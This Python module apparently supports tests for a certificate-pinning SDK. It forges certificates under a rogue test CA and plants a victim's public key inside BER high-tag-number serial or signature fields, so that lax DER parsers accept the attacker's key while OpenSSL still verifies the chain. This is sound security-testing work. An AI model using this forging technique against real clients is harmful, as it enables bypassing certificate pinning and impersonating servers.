"""Forged certificates for the DER-walk attack: a trusted (rogue) CA signs a certificate
for the attacker's own key, with a victim's SubjectPublicKeyInfo planted where a lax
reader of the TBSCertificate would look for the key.

OpenSSL accepts BER tags in high-tag-number form (``1F 02`` for INTEGER, ``3F 10`` for
SEQUENCE) and verifies such certificates as usual; a walker that reads the byte after a
tag's first byte as the length lands inside bytes the signer chose. Independent of
pinsdk: a small DER writer and reader of our own, and cryptography for keys and
signatures.
"""

from __future__ import annotations

import base64
import datetime
import ipaddress
import os
import ssl
import tempfile
from collections.abc import Callable

import trustme
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

Field = str  # "serial" or "signature": which TBS field carries the plant


def der_length(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    body = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(body)]) + body


def tlv(tag: bytes, content: bytes) -> bytes:
    return tag + der_length(len(content)) + content


def elements(der: bytes) -> list[bytes]:
    """The top-level elements of the content of a (strict DER) constructed value."""
    out = []
    pos = 0
    while pos < len(der):
        start = pos
        n = der[pos + 1]
        pos += 2
        if n & 0x80:
            count = n & 0x7F
            n = int.from_bytes(der[pos : pos + count], "big")
            pos += count
        pos += n
        out.append(der[start:pos])
    return out


def content(element: bytes) -> bytes:
    n = element[1]
    if n & 0x80:
        return element[2 + (n & 0x7F) :]
    return element[2:]


def spki_of(cert: x509.Certificate) -> bytes:
    return cert.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )


_SKIP = b"\x04\x00"  # an empty OCTET STRING: one element for the lax walker to skip


def _planted_tbs(tbs: bytes, field: Field, victim_spki: bytes) -> tuple[bytes, bytes | None]:
    """Rewrite ``tbs`` so a walker that misreads high-tag-number form finds
    ``victim_spki`` where the SubjectPublicKeyInfo should be; also the outer
    AlgorithmIdentifier to use when the plant changed the inner one."""
    parts = elements(content(tbs))
    assert parts[0][:1] == b"\xa0", "expected a v3 certificate"
    if field == "serial":
        # 1F 02 <len> <01 | 4 skips | SPKI>: the walker reads length 02, so its next
        # element starts at the content's second byte; four skips stand for signature,
        # issuer, validity and subject.
        planted = b"\x01" + _SKIP * 4 + victim_spki
        assert len(planted) < 0x80
        parts[1] = b"\x1f\x02" + der_length(len(planted)) + planted
    elif field == "signature":
        # 3F 10 <len> <OID | OCTET STRING params>: the walker skips 16 bytes after the
        # tag, i.e. lands on the 16th content byte; three skips stand for issuer,
        # validity and subject. OpenSSL ignores ECDSA's parameters but compares the
        # whole AlgorithmIdentifier with the outer one, which is written the same.
        oid = elements(content(parts[2]))[0]
        assert oid[:2] == b"\x06\x08", "expected ecdsa-with-SHA256"
        data = b"\x00" * 3 + _SKIP * 3 + victim_spki
        params = tlv(b"\x04", data)
        body = oid + params
        assert len(body) < 0x80
        parts[2] = b"\x3f\x10" + der_length(len(body)) + body
        # OpenSSL compares it with the outer one: the same OID and parameters, as DER.
        return tlv(b"\x30", b"".join(parts)), tlv(b"\x30", body)
    else:  # pragma: no cover
        raise ValueError(field)
    return tlv(b"\x30", b"".join(parts)), None


def forge(
    template: x509.Certificate,
    issuer_key: ec.EllipticCurvePrivateKey,
    field: Field,
    victim_spki: bytes,
) -> bytes:
    """DER of ``template`` with the plant in ``field``, signed again by ``issuer_key``."""
    der = template.public_bytes(serialization.Encoding.DER)
    tbs, algorithm, _signature = elements(content(der))
    forged_tbs, outer = _planted_tbs(tbs, field, victim_spki)
    algorithm = outer or algorithm
    signature = issuer_key.sign(forged_tbs, ec.ECDSA(hashes.SHA256()))
    return tlv(b"\x30", forged_tbs + algorithm + tlv(b"\x03", b"\x00" + signature))


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def _template(
    subject: str,
    issuer: x509.Certificate,
    issuer_key: ec.EllipticCurvePrivateKey,
    key: ec.EllipticCurvePrivateKey,
    *,
    hosts: tuple[str, ...] = (),
    ca: bool = False,
) -> x509.Certificate:
    now = datetime.datetime.now(datetime.timezone.utc)
    builder = (
        x509.CertificateBuilder()
        .subject_name(_name(subject))
        .issuer_name(issuer.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()),
            critical=False,
        )
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
    )
    if ca:
        builder = builder.add_extension(
            x509.KeyUsage(
                digital_signature=True,
                content_commitment=False,
                key_encipherment=False,
                data_encipherment=False,
                key_agreement=False,
                key_cert_sign=True,
                crl_sign=True,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
    if hosts:
        names: list[x509.GeneralName] = []
        for host in hosts:
            try:
                names.append(x509.IPAddress(ipaddress.ip_address(host)))
            except ValueError:
                names.append(x509.DNSName(host))
        builder = builder.add_extension(x509.SubjectAlternativeName(names), critical=False)
    return builder.sign(issuer_key, hashes.SHA256())


def _pem(der: bytes) -> bytes:
    text = base64.b64encode(der)
    lines = b"\n".join(text[i : i + 64] for i in range(0, len(text), 64))
    return b"-----BEGIN CERTIFICATE-----\n" + lines + b"\n-----END CERTIFICATE-----\n"


class ForgedServer:
    """What the attacker's server presents: a key it holds and a forged chain (PEM)."""

    def __init__(self, key_pem: bytes, chain_pem: bytes, forged_der: bytes) -> None:
        self.key_pem = key_pem
        self.chain_pem = chain_pem
        self.forged_der = forged_der

    def configure(self, context: ssl.SSLContext) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            cert_path = os.path.join(tmp, "chain.pem")
            key_path = os.path.join(tmp, "key.pem")
            with open(cert_path, "wb") as f:
                f.write(self.chain_pem)
            with open(key_path, "wb") as f:
                f.write(self.key_pem)
            context.load_cert_chain(cert_path, key_path)


def _key_pem(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )


def _ca_material(rogue: trustme.CA) -> tuple[x509.Certificate, ec.EllipticCurvePrivateKey]:
    cert = x509.load_pem_x509_certificate(rogue.cert_pem.bytes())
    key = serialization.load_pem_private_key(rogue.private_key_pem.bytes(), password=None)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    return cert, key


def forged_leaf(
    rogue: trustme.CA, hosts: tuple[str, ...], victim_spki: bytes, field: Field
) -> ForgedServer:
    """A leaf for ``hosts``, signed by the rogue CA, holding the attacker's key but
    with ``victim_spki`` planted in ``field``."""
    ca_cert, ca_key = _ca_material(rogue)
    key = ec.generate_private_key(ec.SECP256R1())
    template = _template("attacker leaf", ca_cert, ca_key, key, hosts=hosts)
    der = forge(template, ca_key, field, victim_spki)
    return ForgedServer(_key_pem(key), _pem(der), der)


def forged_intermediate(
    rogue: trustme.CA, hosts: tuple[str, ...], victim_spki: bytes, field: Field
) -> ForgedServer:
    """A forged intermediate CA (the attacker's key, ``victim_spki`` planted in
    ``field``) under the rogue CA, and an ordinary leaf for ``hosts`` under it."""
    ca_cert, ca_key = _ca_material(rogue)
    mid_key = ec.generate_private_key(ec.SECP256R1())
    mid_template = _template("attacker intermediate", ca_cert, ca_key, mid_key, ca=True)
    mid_der = forge(mid_template, ca_key, field, victim_spki)
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    leaf = _template("attacker leaf", mid_template, mid_key, leaf_key, hosts=hosts)
    leaf_der = leaf.public_bytes(serialization.Encoding.DER)
    return ForgedServer(_key_pem(leaf_key), _pem(leaf_der) + _pem(mid_der), mid_der)


Forger = Callable[[trustme.CA, tuple[str, ...], bytes, Field], ForgedServer]
